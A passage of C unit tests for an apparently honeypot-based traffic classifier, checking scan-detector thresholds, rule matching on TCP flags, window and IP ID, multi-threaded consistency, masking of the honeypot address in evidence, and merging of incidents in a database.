	CHECK_EQ_I(h.n[DET_HSCAN], 0);
	det_free(d);
}

static void set6(struct vg_ip *ip, const char *text)
{
	memset(ip, 0, sizeof *ip);
	ip->v = 6;
	if (inet_pton(AF_INET6, text, ip->a) != 1)
		abort();
}

/* Per-address port counts start once the source has vscan_ports ports,
 * rebuilt from what it probed before: the threshold is met exactly. */
TEST(vertical_counts_rebuilt_when_the_source_reaches_enough_ports)
{
	struct det_config c;
	det_config_default(&c);
	c.vscan_ports = 10;
	c.hscan_hosts = 50;
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct dhits h = {0};
	struct pk k;
	/* IPv6 addresses: the decoder's packet with its addresses replaced */
	for (int i = 0; i < 9; i++)
		for (int t = 0; t < 2; t++) {
			struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.1",
					 .sport = 999, .dport = (uint16_t)(1 + i), .flags = 0x02};
			build(&k, &s);
			set6(&k.p.src, "2001:db8::7");
			set6(&k.p.dst, t ? "2001:db8:1::b" : "2001:db8:1::a");
			det_packet(d, &k.p, on_det, &h);
		}
	CHECK_EQ_I(h.n[DET_VSCAN], 0);
	/* the tenth port, on ::a only */
	struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.1", .sport = 999,
			 .dport = 10, .flags = 0x02};
	build(&k, &s);
	set6(&k.p.src, "2001:db8::7");
	set6(&k.p.dst, "2001:db8:1::a");
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_VSCAN], 1);
	CHECK_EQ_U(h.count[DET_VSCAN], 10);
	/* ::b has nine: a repeat there does not fire, one more port does */
	s.dport = 9;
	build(&k, &s);
	set6(&k.p.src, "2001:db8::7");
	set6(&k.p.dst, "2001:db8:1::b");
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_VSCAN], 1);
	s.dport = 11;
	build(&k, &s);
	set6(&k.p.src, "2001:db8::7");
	set6(&k.p.dst, "2001:db8:1::b");
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_VSCAN], 2);
	det_free(d);
}

/* A sweep of a /24 on one port is a handful of entries, not 256. */
TEST(a_sweep_of_a_slash24_costs_a_few_entries)
{
	struct det_config c;
	det_config_default(&c);
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct dhits h = {0};
	struct pk k;
	char dst[32];
	for (int rep = 0; rep < 2; rep++)
		for (int i = 0; i < 256; i++) {
			snprintf(dst, sizeof dst, "192.0.2.%d", i);
			struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = dst, .sport = 999,
					 .dport = 445, .flags = 0x02};
			build(&k, &s);
			det_packet(d, &k.p, on_det, &h);
		}
	CHECK(det_get_stats(d)->entries <= 8);
	CHECK_EQ_I(h.n[DET_HSCAN], 512 - 8 + 1);   /* at the 8th address, then each probe */
	CHECK_EQ_U(h.count[DET_HSCAN], 8 + 512 - 8);
	CHECK_EQ_I(h.n[DET_VSCAN], 0);
	det_free(d);
}

TEST(detectors_forget_a_source_at_the_end_of_its_day)
{
	struct det_config c;
	det_config_default(&c);
	c.hscan_hosts = 3;
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct dhits h = {0};
	struct pk k;
	char dst[32];
	/* two addresses late on one day, two early the next: never 3 in a day */
	for (int i = 0; i < 4; i++) {
		snprintf(dst, sizeof dst, "192.0.2.%d", 10 + i);
		struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = dst, .sport = 999,
				 .dport = 23, .flags = 0x02};
		build(&k, &s);
		k.p.ts_ns = (uint64_t)(1793491200 + 86400 - 10 + i * 5) * 1000000000u;
		det_packet(d, &k.p, on_det, &h);
	}
	CHECK_EQ_I(h.n[DET_HSCAN], 0);
	/* a third on the second day fires */
	struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.99", .sport = 999,
			 .dport = 23, .flags = 0x02};
	build(&k, &s);
	k.p.ts_ns = (uint64_t)(1793491200 + 86400 + 60) * 1000000000u;
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_HSCAN], 1);
	CHECK_EQ_U(h.count[DET_HSCAN], 3);
	det_free(d);
}

/* on_hit's error stops the pass: with or without workers it comes back
 * from classify_packet or classifier_finish (and classifier_store), and
 * on_hit is not called again after it failed. */
struct stop_ctx {
	size_t calls, fail_at;
};

static int stop_hit(void *ctx, const struct vg_pkt *p, const char *name)
{
	(void)p;
	(void)name;
	struct stop_ctx *s = ctx;
	return ++s->calls >= s->fail_at ? -EIO : 0;
}

TEST(on_hit_error_comes_back_with_and_without_workers)
{
	for (int threads = -1; threads <= 2; threads += 3) {
		struct stop_ctx st = {0, 100};
		struct classifier_config cc = {.threads = threads, .on_hit = stop_hit,
					       .hit_ctx = &st, .batch_packets = 16384};
		det_config_default(&cc.det);
		struct classifier *cl;
		struct vg_err err = {0};
		CHECK(!classifier_new(&cl, &cc, &err));
		struct pk k;
		char dst[32];
		int first_err = 0;
		for (uint32_t i = 0; i < 100000 && !first_err; i++) {
			snprintf(dst, sizeof dst, "192.0.2.%u", i % 250);
			struct spec s = {.proto = 6, .src = "203.0.113.9", .dst = dst,
					 .sport = (uint16_t)(1024 + i), .dport = 445, .flags = 0x02,
					 .ts = 1793491200 + i / 8};
			build(&k, &s);
			first_err = classify_packet(cl, &k.p, 1, NULL);
		}
		int fin = classifier_finish(cl);
		CHECK_EQ_I(fin, -EIO);
		CHECK(first_err == 0 || first_err == -EIO);
		CHECK_EQ_U(st.calls, 100);
		classifier_free(cl);
	}
}

/* Rules without a destination port are picked for a TCP segment by its
 * flags byte (a table built when the matcher starts): for every one of
 * the 256 values, exactly the rules whose flags test passes fire, in
 * every modifier, and a rule without a flags test (tcp or ip) is never
 * skipped. */
TEST(wild_tcp_rules_are_picked_by_every_flags_value)
{
	static const char text[] =
		"alert tcp any any -> any any (msg:\"exact\"; flags:S,12; sid:1;)\n"
		"alert tcp any any -> any any (msg:\"all\"; flags:+SA; sid:2;)\n"
		"alert tcp any any -> any any (msg:\"any\"; flags:*FU; sid:3;)\n"
		"alert tcp any any -> any any (msg:\"not\"; flags:!R; sid:4;)\n"
		"alert tcp any any -> any any (msg:\"none\"; flags:0; sid:5;)\n"
		"alert tcp any any -> any any (msg:\"no flags test\"; dsize:0; sid:6;)\n"
		"alert ip any any -> any any (msg:\"ip\"; dsize:0; sid:7;)\n";
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	CHECK(rs != NULL);
	if (!rs) {
		fprintf(stderr, "%s\n", err.msg);
		return;
	}
	struct rule_matcher *m;
	CHECK(!rule_matcher_new(&m, rs, 0));
	unsigned wrong = 0;
	for (unsigned f = 0; f < 256; f++) {
		struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10",
				 .sport = 4000, .dport = 80, .flags = (uint8_t)f};
		struct pk k;
		build(&k, &s);
		struct hits h = {.rs = rs};
		rule_match(m, &k.p, on_hit, &h);
		unsigned got = 0, want = 0;
		for (size_t i = 0; i < h.n; i++)
			got |= 1u << h.sid[i];
		want |= ((f & 0x3f) == 0x02) << 1;
		want |= ((f & 0x12) == 0x12) << 2;
		want |= ((f & 0x21) != 0) << 3;
		want |= ((f & 0x04) == 0) << 4;
		want |= (f == 0) << 5;
		want |= 1u << 6;
		want |= 1u << 7;        /* an ip rule applies to TCP too */
		if (got != want) {
			fprintf(stderr, "flags 0x%02x: fired 0x%x, expected 0x%x\n", f, got, want);
			wrong++;
		}
	}
	CHECK_EQ_U(wrong, 0);
	rule_matcher_free(m);
	rule_set_free(rs);
}

/* Rules without a port that test the window or the IP ID for one value
 * are bucketed by it: each fires exactly when its value is there, two
 * rules may share a value, a rule with both tests needs both, and one
 * without such a test is never skipped. */
TEST(wild_tcp_rules_keyed_by_window_or_ip_id_fire_on_their_value_only)
{
	static const char text[] =
		"alert tcp any any -> any any (msg:\"win\"; flags:S,12; window:1024; sid:1;)\n"
		"alert tcp any any -> any any (msg:\"win too\"; window:1024; sid:2;)\n"
		"alert tcp any any -> any any (msg:\"id\"; flags:S,12; id:54321; sid:3;)\n"
		"alert tcp any any -> any any (msg:\"both\"; flags:S,12; id:54321; window:65535; sid:4;)\n"
		"alert tcp any any -> any any (msg:\"range\"; flags:S,12; window:>60000; sid:5;)\n"
		"alert tcp any any <> any any (msg:\"bidir\"; window:2048; sid:6;)\n";
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	CHECK(rs != NULL);
	if (!rs)
		return;
	struct rule_matcher *m;
	CHECK(!rule_matcher_new(&m, rs, 0));
	static const uint16_t wins[] = {0, 1023, 1024, 1025, 2048, 54321, 60001, 65535};
	static const uint16_t ids[] = {0, 1024, 54321, 65535};
	unsigned wrong = 0;
	for (size_t a = 0; a < sizeof wins / sizeof wins[0]; a++)
		for (size_t b = 0; b < sizeof ids / sizeof ids[0]; b++) {
			struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10",
					 .sport = 4000, .dport = 80, .flags = 0x02,
					 .win = wins[a], .ipid = ids[b]};
			struct pk k;
			build(&k, &s);
			struct hits h = {.rs = rs};
			rule_match(m, &k.p, on_hit, &h);
			unsigned got = 0, want = 0;
			for (size_t i = 0; i < h.n; i++)
				got |= 1u << h.sid[i];
			want |= (wins[a] == 1024) << 1;
			want |= (wins[a] == 1024) << 2;
			want |= (ids[b] == 54321) << 3;
			want |= (ids[b] == 54321 && wins[a] == 65535) << 4;
			want |= (wins[a] > 60000) << 5;
			want |= (wins[a] == 2048) << 6;
			if (got != want) {
				fprintf(stderr, "window %u id %u: fired 0x%x, expected 0x%x\n", wins[a],
					ids[b], got, want);
				wrong++;
			}
		}
	CHECK_EQ_U(wrong, 0);
	rule_matcher_free(m);
	rule_set_free(rs);
}

/* ---- incidents ---------------------------------------------------------------------------- */

/* A source's first four incidents are found from its own record, later
 * ones along a list: a source hitting seven rules in turn, on one thread
 * and with two workers, gets seven incidents with the right counts, and
 * on the next day seven new ones. */
TEST(source_with_more_incidents_than_its_record_holds_counts_each)
{
	static const char text[] =
		"alert tcp any any -> any 1001 (msg:\"r1\"; flags:S,12; sid:1; metadata:category scan, name r1;)\n"
		"alert tcp any any -> any 1002 (msg:\"r2\"; flags:S,12; sid:2; metadata:category scan, name r2;)\n"
		"alert tcp any any -> any 1003 (msg:\"r3\"; flags:S,12; sid:3; metadata:category scan, name r3;)\n"
		"alert tcp any any -> any 1004 (msg:\"r4\"; flags:S,12; sid:4; metadata:category scan, name r4;)\n"
		"alert tcp any any -> any 1005 (msg:\"r5\"; flags:S,12; sid:5; metadata:category scan, name r5;)\n"
		"alert tcp any any -> any 1006 (msg:\"r6\"; flags:S,12; sid:6; metadata:category scan, name r6;)\n"
		"alert tcp any any -> any 1007 (msg:\"r7\"; flags:S,12; sid:7; metadata:category scan, name r7;)\n";
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	CHECK(rs != NULL);
	if (!rs)
		return;
	for (int threads = -1; threads <= 2; threads += 3) {
		struct classifier_config cc = {.rules = rs, .no_detectors = true, .threads = threads,
					       .batch_packets = 1000};
		struct classifier *cl;
		CHECK(!classifier_new(&cl, &cc, &err));
		struct pk k;
		/* rule r (1..7) gets r * 10 packets a day, interleaved */
		for (int day = 0; day < 2; day++)
			for (int i = 0; i < 70; i++)
				for (int r = 1; r <= 7; r++) {
					if (i >= r * 10)
						continue;
					struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10",
							 .sport = 4000, .dport = (uint16_t)(1000 + r),
							 .flags = 0x02,
							 .ts = 1793491200 + (uint64_t)day * 86400 + (uint64_t)i};
					build(&k, &s);
					CHECK(!classify_packet(cl, &k.p, 1, NULL));
				}
		CHECK(!classifier_finish(cl));
		CHECK_EQ_U(classifier_count(cl), 14);
		unsigned seen = 0;
		for (size_t i = 0; i < classifier_count(cl); i++) {
			const struct incident *in = classifier_get(cl, i);
			if (!in)
				continue;
			int r = in->name[1] - '0';
			int day = in->day == (int64_t)1793491200 / 86400 * 86400 ? 0 : 1;
			CHECK_EQ_U(in->count, (uint64_t)r * 10);
			CHECK_EQ_U(in->nports, 1);
			seen |= 1u << (day * 8 + r);
		}
		CHECK_EQ_U(seen, 0xfefeu);
		classifier_free(cl);
	}
	rule_set_free(rs);
}

/* A run over many days keeps the detectors' state of the current day
 * only: what sources did on earlier days is freed when a new day starts. */
TEST(classifier_frees_earlier_days_detector_state)
{
	struct classifier_config cc = {0};
	det_config_default(&cc.det);
	struct classifier *cl;
	struct vg_err err = {0};
	CHECK(!classifier_new(&cl, &cc, &err));
	struct pk k;
	char src[32];
	size_t before = classifier_memory(cl);
	for (int i = 0; i < 2000; i++) {
		snprintf(src, sizeof src, "10.%d.%d.1", i / 250, i % 250);
		struct spec s = {.proto = 6, .src = src, .dst = "192.0.2.10", .sport = 1,
				 .dport = (uint16_t)(22 + i % 3), .flags = 0x02, .ts = 1793491200 + 60};
		build(&k, &s);
		CHECK(!classify_packet(cl, &k.p, 1, NULL));
	}
	size_t day1 = classifier_memory(cl);
	CHECK(day1 > before + 2000 * 64);
	struct spec s = {.proto = 6, .src = "10.99.0.1", .dst = "192.0.2.10", .sport = 1,
			 .dport = 22, .flags = 0x02, .ts = 1793491200 + 86400 + 60};
	build(&k, &s);
	CHECK(!classify_packet(cl, &k.p, 1, NULL));
	/* the source records stay (they index the incidents), their
	 * detectors' tables are gone */
	CHECK(classifier_memory(cl) < day1 - 2000 * 64);
	classifier_free(cl);
}

/* Batches are classified on the caller's thread, on one worker, or by
 * three shards on three workers: the incidents (in the same order),
 * their counts and evidence, and every on_hit call are the same, and
 * on_hit always runs on the caller's thread.  150,000 packets
 * span three batches; the scanner's packets are spread over all of them. */
struct hit_log {
	pthread_t caller;
	size_t n, wrong_thread;
	uint64_t sum_ts;
};

static int log_hit(void *ctx, const struct vg_pkt *p, const char *name)
{
	struct hit_log *h = ctx;
	h->n++;
	h->sum_ts += p->ts_ns / 1000000000u + strlen(name);
	if (!pthread_equal(pthread_self(), h->caller))
		h->wrong_thread++;
	return 0;
}

static char *classify_mix(int threads, struct hit_log *log, size_t *nincidents)
{
	struct rule_set *rs = vigia_rules();
	if (!rs)
		return NULL;
	struct classifier_config cc = {.rules = rs, .threads = threads, .on_hit = log_hit,
				       .hit_ctx = log, .batch_packets = 65536};
	det_config_default(&cc.det);
	struct classifier *cl;
	struct vg_err err = {0};
	if (classifier_new(&cl, &cc, &err)) {
		rule_set_free(rs);
		return NULL;
	}
	log->caller = pthread_self();
	struct pk k;
	char src[32], dst[32];
	int bad = 0;
	for (uint32_t i = 0; i < 150000; i++) {
		struct spec s = {.proto = 6, .sport = (uint16_t)(1024 + i % 5000), .flags = 0x02,
				 .ts = 1793491200 + i / 4};
		if (i % 50 == 0) {  /* one scanner over the whole run */
			snprintf(src, sizeof src, "203.0.113.66");
			snprintf(dst, sizeof dst, "192.0.2.%u", i / 50 % 200);
			s.dport = 445;
		} else if (i % 7 == 0) {        /* proxy probes from a few sources */
			static const char get[] = "GET http://example.com/ HTTP/1.1\r\n\r\n";
			snprintf(src, sizeof src, "198.51.100.%u", i % 11);
			snprintf(dst, sizeof dst, "192.0.2.%u", i % 3);
			s.dport = 8080;
			s.flags = 0x18;
			s.pl = get;
			s.len = sizeof get - 1;
		} else {                /* many sources, a few probes each */
			snprintf(src, sizeof src, "10.0.%u.1", i % 300);
			snprintf(dst, sizeof dst, "192.0.2.%u", i % 17);
			s.dport = (uint16_t)(20 + i % 5);
		}
		s.src = src;
		s.dst = dst;
		build(&k, &s);
		bad += classify_packet(cl, &k.p, 1 + i % 3, NULL) != 0;
	}
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	if (bad || !f || classifier_finish(cl) || classifier_write_jsonl(cl, f, NULL, 0)) {
		if (f)
			fclose(f);
		free(out);
		out = NULL;
	} else {
		fclose(f);
	}
	*nincidents = classifier_count(cl);
	classifier_free(cl);
	rule_set_free(rs);
	return out;
}

TEST(worker_thread_gives_the_same_incidents_and_hits)
{
	struct hit_log a = {0}, b = {0}, d = {0};
	size_t na = 0, nb = 0, nd = 0;
	char *inline_out = classify_mix(-1, &a, &na);
	char *thread_out = classify_mix(1, &b, &nb);
	char *shards_out = classify_mix(3, &d, &nd);   /* three shards, three workers */
	CHECK(inline_out != NULL);
	CHECK(thread_out != NULL);
	CHECK(shards_out != NULL);
	if (inline_out && thread_out && shards_out) {
		CHECK(!strcmp(inline_out, thread_out));
		CHECK(!strcmp(inline_out, shards_out));
	}
	CHECK_EQ_U(na, nd);
	CHECK_EQ_U(a.n, d.n);
	CHECK_EQ_U(a.sum_ts, d.sum_ts);
	CHECK_EQ_U(d.wrong_thread, 0);
	CHECK(na > 400);
	CHECK_EQ_U(na, nb);
	CHECK(a.n > 100000);
	CHECK_EQ_U(a.n, b.n);
	CHECK_EQ_U(a.sum_ts, b.sum_ts);
	CHECK_EQ_U(a.wrong_thread, 0);
	CHECK_EQ_U(b.wrong_thread, 0);
	/* the scanner's 3,000 probes over 200 addresses: one incident
	 * counting them all, whatever batch each fell in */
	CHECK(inline_out && strstr(inline_out, "\"source.ip\":\"203.0.113.66\"") != NULL);
	const char *hs = inline_out ? strstr(inline_out, "\"source.ip\":\"203.0.113.66\"") : NULL;
	const char *eol = hs ? strchr(hs, '\n') : NULL;
	if (hs && eol) {
		char line[4096];
		size_t l = (size_t)(eol - hs) < sizeof line - 1 ? (size_t)(eol - hs) : sizeof line - 1;
		memcpy(line, hs, l);
		line[l] = 0;
		CHECK(strstr(line, "horizontal scan") != NULL);
		CHECK(strstr(line, "\"extra.count\":3000") != NULL);
	}
	free(inline_out);
	free(thread_out);
	free(shards_out);
}

TEST(evidence_never_holds_the_honeypot_address)
{
	struct rule_set *rs = vigia_rules();
	CHECK(rs != NULL);
	if (!rs)
		return;
	struct classifier_config cc = {.rules = rs};
	det_config_default(&cc.det);
	struct classifier *cl;
	struct vg_err err = {0};
	CHECK(!classifier_new(&cl, &cc, &err));
	struct cidr_set hn = {0};
	struct cidr net;
	CHECK(!cidr_parse("192.0.2.0/24", &net, &err));
	CHECK(!cidr_set_add(&hn, &net));
	struct spec s = {HTTP("GET http://192.0.2.10/x HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\n")};
	struct pk k;
	build(&k, &s);
	CHECK(!classify_packet(cl, &k.p, 3, &hn));
	CHECK_EQ_U(classifier_count(cl), 1);
	const struct incident *in = classifier_get(cl, 0);
	CHECK(in && in->nev == 1);
	if (in && in->nev) {
		CHECK(strstr(in->ev[0].line, "192.0.2.10") == NULL);
		CHECK(strstr(in->ev[0].excerpt, "192.0.2.10") == NULL);
		CHECK(strstr(in->ev[0].line, "hp-3.10:80/tcp") != NULL);
		CHECK(strstr(in->ev[0].excerpt, "Host: hp-3.10") != NULL);
		CHECK(strstr(in->ev[0].line, "198.51.100.7:40000") != NULL);
		char js[8192];
		int n = incident_json(in, NULL, 0, js, sizeof js);
		CHECK(n > 0);
		CHECK(strstr(js, "\"classification.type\":\"scanner\"") != NULL);
		CHECK(strstr(js, "192.0.2.10") == NULL);
		CHECK_EQ_I(incident_json(in, NULL, 0, js, 40), -ENOSPC);
	}
	cidr_set_free(&hn);
	classifier_free(cl);
	rule_set_free(rs);
}

static int count_rows(const struct db_incident *in, void *ctx)
{
	struct incident *out = ctx;
	out->count += in->count;
	out->nports = in->nports;
	out->nsensors = in->nsensors;
	out->first_s = in->first_s;
	out->last_s = in->last_s;
	out->sid++;     /* rows seen */
	return 0;
}

TEST(incidents_merge_in_the_database)
{
	char dir[] = "/tmp/vigia-test-incdb-XXXXXX";
	CHECK(mkdtemp(dir) != NULL);
	char path[256];
	snprintf(path, sizeof path, "%s/v.db", dir);
	struct db *db;
	struct vg_err err = {0};
	CHECK(!db_open(&db, path, &err));
	uint32_t p1[] = {22, 23}, p2[] = {23, 65536 + 53}, s1[] = {1}, s2[] = {4};
	struct db_incident in = {.day = 86400 * 20000, .category = "scan", .name = "vertical scan",
				 .taxonomy = "information-gathering", .type = "scanner",
				 .first_s = 86400 * 20000 + 50, .last_s = 86400 * 20000 + 60,
				 .count = 10, .ports = p1, .nports = 2, .sensors = s1, .nsensors = 1};
	in.ip.v = 4;
	in.ip.a[0] = 198;
	in.ip.a[1] = 51;
	in.ip.a[2] = 100;
	in.ip.a[3] = 7;
	struct db_evidence ev = {1, 1, "line", "excerpt"};
	CHECK(!db_begin(db, &err));
	CHECK(!db_incident_merge(db, &in, &ev, 1, &err));
	in.first_s -= 40;
	in.count = 5;
	in.ports = p2;
	in.sensors = s2;
	CHECK(!db_incident_merge(db, &in, &ev, 1, &err));
	CHECK(!db_commit(db, &err));
	struct incident got = {0};
	CHECK(!db_incidents_foreach(db, in.day, in.day + 86400, count_rows, &got, &err));
	CHECK_EQ_U(got.sid, 1);
	CHECK_EQ_U(got.count, 15);
	CHECK_EQ_U(got.nports, 3);
	CHECK_EQ_U(got.nsensors, 2);
	CHECK_EQ_I(got.first_s, 86400 * 20000 + 10);
	CHECK_EQ_I(got.last_s, 86400 * 20000 + 60);
	CHECK(!db_begin(db, &err));
	CHECK(!db_incidents_clear_day(db, in.day, &err));
	CHECK(!db_commit(db, &err));
	memset(&got, 0, sizeof got);
	CHECK(!db_incidents_foreach(db, in.day, in.day + 86400, count_rows, &got, &err));
	CHECK_EQ_U(got.sid, 0);
	db_close(db);
	char cmd[512];
	snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
	CHECK(system(cmd) == 0);
}

int main(void)
{
	RUN(errors_name_file_line_and_column);
	RUN(rule_file_errors_name_the_path);
	RUN(metadata_gives_category_name_and_taxonomy);
	RUN(content_offset_depth_distance_within_nocase);
	RUN(addresses_ports_variables_and_direction);
	RUN(header_options_and_vigia_extensions);
	RUN(detection_filter_fires_after_count_within_seconds);
	RUN(one_pass_over_many_rules_finds_each_pattern);
	RUN(vigia_rules_fire_on_worm_and_spam_facts);
	RUN(vigia_rules_stay_quiet_on_benign_shapes);
	RUN(detectors_fire_at_their_thresholds);
	RUN(detector_memory_is_bounded);
	RUN(detectors_count_exactly_past_inline_values_and_table_growth);
	RUN(vertical_counts_rebuilt_when_the_source_reaches_enough_ports);
	RUN(a_sweep_of_a_slash24_costs_a_few_entries);
	RUN(detectors_forget_a_source_at_the_end_of_its_day);
	RUN(classifier_frees_earlier_days_detector_state);
	RUN(source_with_more_incidents_than_its_record_holds_counts_each);
	RUN(worker_thread_gives_the_same_incidents_and_hits);
	RUN(on_hit_error_comes_back_with_and_without_workers);
	RUN(wild_tcp_rules_are_picked_by_every_flags_value);
	RUN(wild_tcp_rules_keyed_by_window_or_ip_id_fire_on_their_value_only);
	RUN(evidence_never_holds_the_honeypot_address);
	RUN(incidents_merge_in_the_database);
	return check_summary();
}
